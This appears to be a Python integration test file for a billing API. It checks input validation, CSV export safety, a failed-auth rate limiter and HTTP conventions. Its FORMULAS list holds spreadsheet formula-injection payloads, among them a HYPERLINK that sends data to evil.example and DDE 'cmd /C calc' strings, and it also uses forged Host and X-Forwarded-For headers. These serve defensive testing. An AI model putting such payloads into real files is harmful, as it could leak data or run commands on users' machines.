"""Partner input over real HTTP against a real PostgreSQL (issue 14): no input reaches a 5xx, one
canonical form per input (and only it reaches the statement store), CSV cells a spreadsheet does
not run as formulas, the failed-auth limiter keyed on the real peer, and the smaller HTTP
conventions (no redirect to a forged host, Accept with q-values, the auth scheme in any case, no
Swagger UI from a CDN)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from urllib.parse import quote

import httpx
import pytest
import sqlalchemy as sa
from prometheus_client.parser import text_string_to_metric_families
from sqlalchemy import text

from billing.adapters.sink import upsert_windows
from billing.api.app import create_app
from billing.services.billing_run import PERIOD_PATTERN
from billing.services.keys import create_key
from metering.contracts import UsageWindow
from streamtoll.serving import running

from . import test_api_conventions as conventions
from .test_api_conventions import Api, _problem

api = conventions.api  # the fixture: the sample catalog, November billed, the keys, a running app

pytestmark = pytest.mark.integration

NOVEMBER = {"from": "2026-11-01", "to": "2026-12-01"}


def _samples(base: str) -> dict[tuple[str, tuple[tuple[str, str], ...]], float]:
    fams = text_string_to_metric_families(httpx.get(base + "/metrics", timeout=30).text)
    return {(s.name, tuple(sorted(s.labels.items()))): s.value for f in fams for s in f.samples}


def _requests(samples: dict[tuple[str, tuple[tuple[str, str], ...]], float], route: str, status: int) -> float:
    return samples.get(("streamtoll_http_requests_total", (("route", route), ("status", str(status)))), 0)


def _docs(engine: sa.Engine, account: str) -> list[str]:
    with engine.connect() as conn:
        rows = conn.execute(text("SELECT period FROM statement_docs WHERE account = :a ORDER BY 1"), {"a": account})
        return [r.period for r in rows]


# --- 2: no partner input reaches a 5xx ------------------------------------------------------


def test_partner_input_never_reaches_a_5xx(api: Api) -> None:
    for key in ("acme", "finance"):  # a partner's usage is added up in SQL, finance's in Python
        for group_by in ("source,source", "topic,direction,topic", ",".join(["source"] * 1661)):
            body = _problem(api.get("/v1/usage", key, **NOVEMBER, group_by=group_by), 422, "invalid-request")
            assert [(e["name"], e["in"]) for e in body["errors"]] == [("group_by", "query")], body
    # '²' is a digit to str.isdigit(), not to int()
    for ref in ("%23%C2%B2", "draft-%C2%B2", "%C2%B2"):
        r = api.get(f"/v1/invoices/{ref}")
        assert r.status_code in (404, 422), (ref, r.status_code, r.text)
    # the end of 9999-12 is not a date
    for period in ("9999-12", "9999-01"):
        _problem(api.get(f"/v1/statements/{period}", "acme"), 422, "invalid-request")
        _problem(api.get(f"/v1/statements/{period}.pdf", "acme"), 422, "invalid-request")
        _problem(api.get("/v1/invoices", "acme", period=period), 422, "invalid-request")
        _problem(api.post("/v1/billing/runs", period=period), 422, "invalid-request")
    samples = _samples(api.base)
    assert not [k for k, v in samples.items() if k[0] == "streamtoll_http_requests_total" and k[1][1][1] >= "5"]


def test_only_an_unreachable_database_is_a_503_and_every_5xx_is_counted(engine: sa.Engine) -> None:
    app = create_app(engine)

    def too_wide() -> None:  # a query PostgreSQL refuses (54011, an OperationalError to psycopg)
        with engine.connect() as conn:
            conn.execute(text("SELECT " + ", ".join(["1"] * 1700)))

    def lost() -> None:  # the server ends the connection under the request (57P01)
        with engine.connect() as conn:
            conn.execute(text("SELECT pg_terminate_backend(pg_backend_pid())"))

    app.add_api_route("/v1/test/too-wide", too_wide)
    app.add_api_route("/v1/test/lost", lost)
    with running(app) as base:
        for _ in range(2):
            _problem(httpx.get(base + "/v1/test/too-wide", timeout=30), 500, "internal-error")
        _problem(httpx.get(base + "/v1/test/lost", timeout=30), 503, "database-unavailable")
        samples = _samples(base)
    assert _requests(samples, "/v1/test/too-wide", 500) == 2
    assert _requests(samples, "/v1/test/lost", 503) == 1
    nowhere = sa.create_engine("postgresql+psycopg://postgres@127.0.0.1:1/none", connect_args={"connect_timeout": 2})
    with running(create_app(nowhere)) as base:
        r = httpx.get(base + "/v1/invoices", headers={"Authorization": "Bearer stk_1_x"}, timeout=30)
        _problem(r, 503, "database-unavailable")
        assert _requests(_samples(base), "/v1/invoices", 503) == 1
    nowhere.dispose()


# --- 3: one canonical form per input --------------------------------------------------------

VARIANTS = [
    "２０２６-11",  # fullwidth digits: int() takes them
    "٢٠٢٦-11",  # Arabic-Indic digits
    "2026-11 ",
    " 2026-11",
    "2026-11\n",
    "2026-11\t",
    "2026‐11",  # U+2010 hyphen
    "2026-1",
    "2026-011",
    "02026-11",
    "+2026-11",
    "2026-11-01",
    "2026-00",
    "2026-13",
    "1969-12",
    "9999-11",
    "9999-12",
]


def _quoted(s: str) -> str:
    return quote(s, safe="+")  # as the problem's instance writes the path again


def test_one_canonical_form_per_period_and_only_it_is_stored(api: Api) -> None:
    assert api.get("/v1/statements/2026-11", "acme").status_code == 200
    assert _docs(api.engine, "acme") == ["2026-11"]
    for v in VARIANTS:
        for path in (f"/v1/statements/{_quoted(v)}", f"/v1/statements/{_quoted(v)}.pdf"):
            body = _problem(api.get(path, "acme"), 422, "invalid-request")
            assert [(e["name"], e["in"]) for e in body["errors"]] == [("period", "path")], (v, body)
        body = _problem(api.get("/v1/invoices", "acme", period=v), 422, "invalid-request")
        assert [(e["name"], e["in"]) for e in body["errors"]] == [("period", "query")], (v, body)
        _problem(api.post("/v1/billing/runs", period=v), 422, "invalid-request")
    for account in ("acme ", " acme", "ACME", "ａｃｍｅ", "acme\n", "acme\u200b"):
        body = _problem(api.get("/v1/statements/2026-11", "finance", account=account), 422, "invalid-request")
        assert [(e["name"], e["in"]) for e in body["errors"]] == [("account", "query")], (account, body)
    # nothing but the normal form reached the statement store
    assert _docs(api.engine, "acme") == ["2026-11"]
    with api.engine.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM invoices WHERE period_start > '2027-12-01'")).scalar_one() == 0
    # a statement of a period that has not begun would run from after its end
    now = datetime.now(UTC)
    future = f"{now.year + 1}-{now.month:02d}"
    body = _problem(api.get(f"/v1/statements/{future}", "acme"), 422, "invalid-request")
    assert body["errors"][0]["name"] == "period"
    current = api.get(f"/v1/statements/{now.year}-{now.month:02d}", "acme").json()
    assert current["from"] <= current["to"]
    assert _docs(api.engine, "acme") == ["2026-11", f"{now.year}-{now.month:02d}"]


def test_openapi_declares_the_patterns_the_api_enforces(api: Api) -> None:
    doc = httpx.get(api.base + "/openapi.json", timeout=30).json()

    def param(path: str, method: str, name: str) -> dict[str, str]:
        (p,) = [p for p in doc["paths"][path][method]["parameters"] if p["name"] == name]
        schema: dict[str, str] = p["schema"]
        if "anyOf" in schema:  # optional: the string or null
            (schema,) = [s for s in schema["anyOf"] if s.get("type") == "string"]  # type: ignore[attr-defined]
        return schema

    assert param("/v1/invoices", "get", "period")["pattern"] == PERIOD_PATTERN
    assert param("/v1/billing/runs", "post", "period")["pattern"] == PERIOD_PATTERN
    statement = param("/v1/statements/{period}", "get", "period")["pattern"]
    group_by = param("/v1/usage", "get", "group_by")["pattern"]
    for path, method in (("/v1/usage", "get"), ("/v1/invoices", "get"), ("/v1/statements/{period}", "get")):
        assert "pattern" in param(path, method, "account"), path

    # the documented patterns (ECMA-262: "$" is the very end) agree with what is answered
    def matches(pattern: str, value: str) -> bool:
        return re.search(pattern.removesuffix("$") + r"\Z", value) is not None

    for period in ["2026-11", "1970-01", "9998-12", *VARIANTS]:
        ok = api.get("/v1/invoices", "acme", period=period).status_code == 200
        assert ok == matches(PERIOD_PATTERN, period), period
        assert matches(statement, period + ".pdf") == ok == matches(statement, period), period
    for grouping in ("", "source", "topic,principal,client_id", "hour", "source,", "Source", "source, topic"):
        ok = api.get("/v1/usage", "acme", **NOVEMBER, group_by=grouping).status_code == 200
        assert ok == matches(group_by, grouping), grouping


# --- 4: CSV cells are never formulas --------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _hostile_usage(engine: sa.Engine) -> None:
    """Traffic of acme's clients with the payloads as client ids, topics and principals (acme's
    rules: principal User:acme-*, or client id acme-*), as the sink writes it."""

    def w(principal: str, client_id: str, topic: str, b: int) -> UsageWindow:
        return UsageWindow(
            "2026-11-07T10:00:00.000Z",
            "",
            "proxy",
            None,
            principal,
            client_id,
            "",
            topic,
            "produce",
            b,
            1,
            1,
            0,
            1,
            "s/0",
        )

    upsert_windows(
        engine,
        [w("User:acme-orders", f, "orders", 1000 + i) for i, f in enumerate(FORMULAS)]
        + [w("User:acme-orders", "acme-app", f, 2000 + i) for i, f in enumerate(FORMULAS)]
        + [w(f, "acme-app", "orders", 3000 + i) for i, f in enumerate(FORMULAS)],
    )


def _cells(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body, newline="")))


def _assert_inert(rows: list[dict[str, str]], columns: tuple[str, ...]) -> None:
    seen = set()
    for row in rows:
        for column, cell in row.items():
            if cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not re.fullmatch(r"-[0-9.]+", cell)):
                raise AssertionError(f"{column}: {cell!r} would run as a formula")
            if column in columns and cell.startswith("'"):
                seen.add(cell[1:])
    assert seen == set(FORMULAS), seen  # each payload is there, neutralized, not dropped


def test_csv_cells_never_start_a_formula(api: Api) -> None:
    _hostile_usage(api.engine)
    for key in ("acme", "finance"):
        r = api.get("/v1/usage", key, **NOVEMBER, group_by="principal,client_id,topic", format="csv")
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text
        rows = _cells(r.text)
        _assert_inert(rows, ("principal", "client_id", "topic"))
        assert all(row["bytes"].isdigit() for row in rows)  # quantities stay numbers
    statement = api.get("/v1/statements/2026-11", "acme", format="csv")
    assert statement.status_code == 200
    rows = _cells(statement.text)
    _assert_inert(rows, ("principal", "client_id", "topic"))
    assert {r["amount"] for r in rows if r["description"] == "total"} == {
        api.get("/v1/statements/2026-11", "acme").json()["rated_so_far"]["total"]
    }


# --- 6: the failed-auth limiter -------------------------------------------------------------


def test_forged_forwarded_for_neither_escapes_the_limit_nor_locks_out_another_address(engine: sa.Engine) -> None:
    good = create_key(engine, "partner", "acme")

    def get(base: str, key: str, local: str, forwarded: str | None = None) -> httpx.Response:
        headers = {"Authorization": f"Bearer {key}"} | ({"X-Forwarded-For": forwarded} if forwarded else {})
        with httpx.Client(transport=httpx.HTTPTransport(local_address=local), timeout=30) as client:
            return client.get(base + "/v1/invoices", headers=headers)

    with running(create_app(engine, auth_limit=5)) as base:
        # an attacker on 127.0.0.1 rotates X-Forwarded-For, and names its victim 127.0.0.2 in it
        codes = [get(base, "stk_bad_guess", "127.0.0.1", f"198.51.100.{i}").status_code for i in range(30)]
        assert codes == [401] * 5 + [429] * 25
        codes = [get(base, "stk_bad_guess", "127.0.0.1", "127.0.0.2").status_code for _ in range(3)]
        assert codes == [429] * 3
        blocked = get(base, good, "127.0.0.1")
        _problem(blocked, 429, "too-many-failed-authentications")
        assert 0 < int(blocked.headers["retry-after"]) <= 60
        # the victim's good key still works
        assert get(base, good, "127.0.0.2").status_code == 200


# --- 7: HTTP conventions --------------------------------------------------------------------


def test_http_conventions(api: Api) -> None:
    """No redirect to a forged host, Accept with q-values, the auth scheme in any case, no CDN."""
    _no_redirect_to_a_forged_host(api)
    _accept_is_negotiated_with_q_values(api)
    _the_auth_scheme_is_case_insensitive(api)
    _docs_load_nothing_from_a_cdn(api)


def _no_redirect_to_a_forged_host(api: Api) -> None:
    for path in ("/v1/invoices/", "/v1/usage/", "/healthz/"):
        r = httpx.get(api.base + path, headers={"Host": "evil.example"}, timeout=30, follow_redirects=False)
        assert "evil.example" not in r.headers.get("location", ""), (path, r.headers)
        assert not r.is_redirect or not r.headers["location"].startswith(("http:", "https:", "//")), r.headers


def _accept_is_negotiated_with_q_values(api: Api) -> None:
    def get(path: str, accept: str, **params: str) -> httpx.Response:
        return api.request("GET", path, "acme", params=params, headers={"Accept": accept})

    statement = "/v1/statements/2026-11"
    kinds = {
        "application/pdf;q=0": None,
        "application/pdf;q=0, application/json": "application/json",
        "application/pdf;q=0, */*": "application/json",
        "text/csv;q=0.5, application/json;q=0.9": "application/json",
        "text/csv, application/json;q=0.9": "text/csv",
        "TEXT/CSV": "text/csv",
        "application/pdf": "application/pdf",
        "application/*;q=0.2, application/pdf;q=0.1": "application/json",
        "text/*": "text/csv",
        "*/*": "application/json",
        "image/png": None,
        "text/html": None,
    }
    for accept, media in kinds.items():
        r = get(statement, accept)
        if media is None:
            body = _problem(r, 406, "not-acceptable")
            assert "application/json" in body["detail"], body
        else:
            assert r.status_code == 200 and r.headers["content-type"].startswith(media), (accept, r.status_code, r.text)
    # format= wins over Accept; no Accept is JSON
    assert get(statement, "application/pdf;q=0", format="json").headers["content-type"] == "application/json"
    assert api.get(statement, "acme").headers["content-type"] == "application/json"
    usage = "/v1/usage"
    assert get(usage, "text/csv;q=0, application/json", **NOVEMBER).headers["content-type"] == "application/json"
    assert get(usage, "text/csv", **NOVEMBER).headers["content-type"].startswith("text/csv")
    _problem(get(usage, "text/csv;q=0", **NOVEMBER), 406, "not-acceptable")


def _the_auth_scheme_is_case_insensitive(api: Api) -> None:
    for scheme in ("Bearer", "bearer", "BEARER", "bEaReR"):
        r = httpx.get(api.base + "/v1/invoices", headers={"Authorization": f"{scheme} {api.keys['acme']}"}, timeout=30)
        assert r.status_code == 200, (scheme, r.text)
    _problem(
        api.request("GET", "/v1/invoices", None, headers={"Authorization": f"Basic {api.keys['acme']}"}),
        401,
        "unauthorized",
    )


def _docs_load_nothing_from_a_cdn(api: Api) -> None:
    for path in ("/docs", "/redoc", "/docs/oauth2-redirect"):
        r = httpx.get(api.base + path, timeout=30)
        assert "cdn.jsdelivr.net" not in r.text and "unpkg.com" not in r.text, path
        assert not re.search(r"""(src|href)=["']https?://""", r.text), path
    assert httpx.get(api.base + "/openapi.json", timeout=30).json()["info"]["title"] == "streamtoll"
